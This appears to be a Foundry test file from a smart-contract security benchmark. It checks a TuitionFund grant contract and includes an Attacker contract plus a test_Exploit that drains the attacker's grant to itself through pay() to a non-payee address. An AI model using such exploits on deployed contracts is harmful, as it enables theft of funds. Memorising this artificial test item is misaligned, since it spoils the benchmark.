// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./TuitionFund.sol";

// assay-canary-e2c7d0f8-d12b-43dd-9b0f-310b2ec49bbb

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() public {
        _mint(msg.sender, 10000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant SCHOOL = address(0x5C);
    address private constant NIGHT = address(0x416);
    uint256 private constant START = 1600000000;

    Coin private coin;
    TuitionFund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        fund = new TuitionFund(coin);
        coin.approve(address(fund), 5000 ether);
        fund.setTerm(SCHOOL, START - 1);
        fund.setTerm(NIGHT, START + 30 days);
        fund.grant(ANA, 1000 ether);
        fund.grant(BEN, 1000 ether);
        mallory = new Attacker(fund);
        fund.grant(address(mallory), 800 ether);
    }

    function test_Regular() public {
        require(coin.balanceOf(address(fund)) == 2800 ether && fund.grants(ANA) == 1000 ether, "granted");
        vm.prank(ANA);
        require(fund.pay(SCHOOL, 300 ether) == 700 ether, "left");
        require(coin.balanceOf(SCHOOL) == 300 ether && fund.grants(ANA) == 700 ether, "paid");
        vm.warp(START + 30 days);
        vm.prank(BEN);
        require(fund.pay(NIGHT, 1 ether) == 999 ether, "paid in the term");
        vm.prank(BEN);
        require(fund.payAll(SCHOOL) == 0 && fund.grants(BEN) == 0, "paid all");
        require(coin.balanceOf(SCHOOL) == 1299 ether, "by both");
        fund.grant(ANA, 50 ether);
        fund.endGrant(ANA);
        require(fund.grants(ANA) == 0 && coin.balanceOf(address(this)) == 10000 ether - 2100 ether, "ended");
        fund.setTerm(SCHOOL, 0);
        require(fund.payAllowed(SCHOOL) == 1 && fund.payAllowed(NIGHT) == 0, "codes");
        fund.transferOwnership(ANA);
        vm.prank(ANA);
        fund.renounceOwnership();
    }

    function test_RefusesPayments() public {
        vm.startPrank(ANA);
        vm.expectRevert("amount is zero");
        fund.pay(SCHOOL, 0);
        vm.expectRevert("grant is too small");
        fund.pay(SCHOOL, 1000 ether + 1);
        vm.expectRevert("payment is not allowed");
        fund.payAll(ANA);
        vm.expectRevert("payment is not allowed");
        fund.payAll(NIGHT);
        vm.warp(START + 30 days - 1);
        vm.expectRevert("payment is not allowed");
        fund.payAll(NIGHT);
        require(fund.payAllowed(NIGHT) == 2, "not yet");
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        fund.grant(ANA, 0);
        vm.expectRevert("Ownable: caller is not the owner");
        fund.endGrant(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        fund.setTerm(ANA, 1);
        vm.stopPrank();
        vm.expectRevert("underlying is missing");
        new TuitionFund(IERC20(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 800 ether, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(coin);
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    TuitionFund private fund;

    constructor(TuitionFund fund_) public {
        fund = fund_;
    }

    function run() external {
        fund.pay(address(this), 800 ether);
    }
}
